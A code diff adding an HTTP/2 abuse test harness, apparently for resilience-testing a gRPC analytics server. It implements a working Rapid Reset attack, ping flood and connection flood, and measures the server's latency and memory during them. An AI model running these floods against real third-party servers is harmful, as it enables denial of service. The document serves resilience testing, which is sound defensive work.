@@ -194,3 +194,202 @@ def idle_connections(address: str, count: int, *, preface: bool) -> Iterator[lis
         for sock in socks:
             with contextlib.suppress(OSError):
                 sock.close()
+
+
+def rapid_reset(address: str, streams: int, *, method: str, chunk: int = 5000) -> tuple[int, str]:
+    """Open and at once reset up to ``streams`` streams on one connection, as fast as
+    the socket takes them: pre-encoded HEADERS + RST_STREAM frames, written in bulk.
+
+    Returns how many went out and how the connection ended: ``"goaway"``,
+    ``"closed"`` (the server hung up) or ``"open"``.
+    """
+    import struct
+
+    import hpack
+
+    block = hpack.Encoder().encode(
+        [hpack.NeverIndexedHeaderTuple(k, v) for k, v in grpc_headers(method)], huffman=False
+    )
+    headers_head = struct.pack(">I", len(block))[1:] + bytes([0x1, 0x4])  # HEADERS, END_HEADERS
+    rst_head = b"\x00\x00\x04\x03\x00"  # RST_STREAM, length 4
+    cancel = struct.pack(">I", 0x8)
+    with RawH2(address) as conn:
+        stream_id = conn.conn.get_next_available_stream_id()
+        sent = 0
+        while sent < streams:
+            frames = []
+            for _ in range(min(chunk, streams - sent)):
+                sid = struct.pack(">I", stream_id)
+                frames.append(headers_head + sid + block + rst_head + sid + cancel)
+                stream_id += 2
+            try:
+                conn.sock.sendall(b"".join(frames))
+            except OSError:
+                conn.seen.closed = True
+                break
+            sent += len(frames)
+            conn.poll(0)
+            if conn.seen.goaway is not None or conn.seen.closed:
+                break
+        conn.poll(0.2)
+        outcome = "goaway" if conn.seen.goaway else "closed" if conn.seen.closed else "open"
+        return sent, outcome
+
+
+class LegitClient:
+    """A well-behaved client in a thread: TrackEvent in a loop, latencies recorded."""
+
+    def __init__(self, address: str, *, timeout: float = 5.0) -> None:
+        import threading
+
+        self._address = address
+        self._timeout = timeout
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+        self.latencies: list[float] = []
+        self.errors: list[str] = []
+
+    def _run(self) -> None:
+        import grpc
+
+        from eventwire.api import analytics_pb2, analytics_pb2_grpc
+
+        with grpc.insecure_channel(self._address) as channel:
+            stub = analytics_pb2_grpc.AnalyticsServiceStub(channel)
+            event = analytics_pb2.TrackEventRequest(event_name="legit")
+            while not self._stop.is_set():
+                began = time.perf_counter()
+                try:
+                    stub.TrackEvent(event, timeout=self._timeout)
+                except grpc.RpcError as err:
+                    self.errors.append(f"{err.code()}: {err.details()}")
+                    continue
+                self.latencies.append(time.perf_counter() - began)
+                self._stop.wait(0.005)
+
+    def __enter__(self) -> Self:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._stop.set()
+        self._thread.join(30)
+
+    def p99(self) -> float:
+        ordered = sorted(self.latencies)
+        if not ordered:
+            return float("inf")
+        return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]
+
+
+@dataclass
+class AbuseReport:
+    """What :func:`abuse` measured; times in seconds, memory in KiB."""
+
+    rss_before: int = 0
+    rss_after: int = 0
+    rss_peak: int = 0
+    p99_before: float = 0.0
+    p99_during: float = 0.0
+    legit_calls_during: int = 0
+    legit_errors: list[str] = field(default_factory=list)
+    ping_flood: dict[str, float] = field(default_factory=dict)
+    rapid_reset: dict[str, float] = field(default_factory=dict)
+    connection_flood: dict[str, float] = field(default_factory=dict)
+    outcomes: dict[str, list[str]] = field(default_factory=dict)
+
+
+def _ping_flood(address: str, connections: int, pings: int) -> list[str]:
+    outcomes = []
+    for _ in range(connections):
+        with RawH2(address) as conn:
+            conn.ping(pings)
+            got = conn.wait_for("goaway", 5)
+            reason = conn.seen.goaway.additional_data if conn.seen.goaway else b""
+            outcomes.append(reason.decode() if got and reason else "no goaway")
+    return outcomes
+
+
+def _rapid_resets(address: str, connections: int, streams: int) -> list[tuple[int, str]]:
+    method = "/analytics.AnalyticsService/TrackEvent"
+    return [rapid_reset(address, streams, method=method) for _ in range(connections)]
+
+
+def _connection_flood(address: str, count: int, hold: float, pid: int) -> tuple[int, int]:
+    with (
+        idle_connections(address, count // 2, preface=True) as a,
+        idle_connections(address, count - len(a), preface=False) as b,
+    ):
+        time.sleep(hold)
+        return len(a) + len(b), rss_kib(pid)
+
+
+def abuse(
+    address: str,
+    pid: int,
+    *,
+    ping_connections: int = 20,
+    pings: int = 1000,
+    reset_connections: int = 4,
+    resets: int = 50_000,
+    flood_connections: int = 500,
+    hold: float = 1.0,
+    baseline: float = 1.5,
+) -> AbuseReport:
+    """Ping flood, Rapid Reset and connection flood on ``address``, while a legitimate
+    client keeps calling; the server's RSS (``pid``) before, at its peak, and after.
+
+    The attacks run in a child process so that they do not compete with the
+    legitimate client for this interpreter's GIL: its latencies are the server's.
+    """
+    import multiprocessing
+
+    report = AbuseReport(rss_before=rss_kib(pid))
+    with multiprocessing.get_context("spawn").Pool(1) as attacker:
+        attacker.apply(time.sleep, (0,))  # the child is up before anything is timed
+        with LegitClient(address) as calm:
+            time.sleep(baseline)
+        report.p99_before = calm.p99()
+        report.legit_errors += calm.errors
+
+        with LegitClient(address) as busy:
+            began = time.perf_counter()
+            pinged = attacker.apply(_ping_flood, (address, ping_connections, pings))
+            elapsed = time.perf_counter() - began
+            report.ping_flood = {
+                "pings": ping_connections * pings,
+                "pings_per_s": round(ping_connections * pings / elapsed),
+            }
+            report.rss_peak = max(report.rss_peak, rss_kib(pid))
+
+            began = time.perf_counter()
+            resets_done = attacker.apply_async(_rapid_resets, (address, reset_connections, resets))
+            while not resets_done.ready():
+                report.rss_peak = max(report.rss_peak, rss_kib(pid))
+                time.sleep(0.05)
+            reset_outcomes = resets_done.get()
+            elapsed = time.perf_counter() - began
+            sent_total = sum(sent for sent, _ in reset_outcomes)
+            report.rapid_reset = {
+                "streams": sent_total,
+                "streams_per_s": round(sent_total / elapsed),
+            }
+
+            began = time.perf_counter()
+            opened, rss = attacker.apply(_connection_flood, (address, flood_connections, hold, pid))
+            report.rss_peak = max(report.rss_peak, rss)
+            report.connection_flood = {
+                "connections": opened,
+                "connections_per_s": round(opened / max(1e-9, time.perf_counter() - began - hold)),
+            }
+    report.p99_during = busy.p99()
+    report.legit_calls_during = len(busy.latencies)
+    report.legit_errors += busy.errors
+    report.outcomes = {
+        "ping_flood": pinged,
+        "rapid_reset": [f"{outcome} after {sent}" for sent, outcome in reset_outcomes],
+        "connection_flood": [f"{opened} held {hold:g}s"],
+    }
+    time.sleep(1.0)  # let the server release what the floods held
+    report.rss_after = rss_kib(pid)
+    return report
